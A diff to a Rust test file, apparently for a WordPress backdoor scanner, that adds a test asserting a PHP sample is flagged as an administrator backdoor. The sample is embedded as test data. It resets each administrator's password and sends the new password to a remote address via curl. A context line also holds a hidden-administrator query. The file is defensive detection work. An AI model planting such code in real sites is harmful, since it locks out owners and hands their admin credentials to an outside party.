@@ -240,3 +240,18 @@ fn a_fallback_administrator_kept_out_of_the_users_list_by_a_meta_query_is_hidden
                   add_filter('pre_get_users', function ($q) { $q->query_vars['meta_query'][] = ['key' => 'is_fallback_admin', 'compare' => 'NOT EXISTS']; return $q; });";
     assert_eq!(found(plugin), [(Why::HiddenAdministrator, Danger::High)]);
 }
+
+#[test]
+fn administrators_given_new_passwords_sent_to_another_machine_is_a_backdoor() {
+    // The wp2021 capture's `qhrxh.php`: each administrator's password changed to a random one
+    // and sent to the file's master.
+    let src = "<?php function resPass() { $adms = get_users(['role' => 'Administrator']);\n\
+               foreach ($adms as $a) { $p = wp_generate_password(7); wp_set_password($p, $a->ID);\n\
+               $ch = curl_init($this->au); curl_setopt($ch, CURLOPT_POSTFIELDS, 'nsrees=' . $p); curl_exec($ch); } }";
+    assert_eq!(found(src), [(Why::AdminBackdoor, Danger::High)]);
+    // A password reset behind a permission check, or one that calls no one: the site's own.
+    let checked =
+        src.replace("function resPass() {", "function resPass() { if (!current_user_can('manage_options')) return;");
+    assert!(found(&checked).is_empty());
+    assert!(found(&src.replace("curl_exec($ch);", "wp_mail($a->user_email, 'New password', $p);")).is_empty());
+}
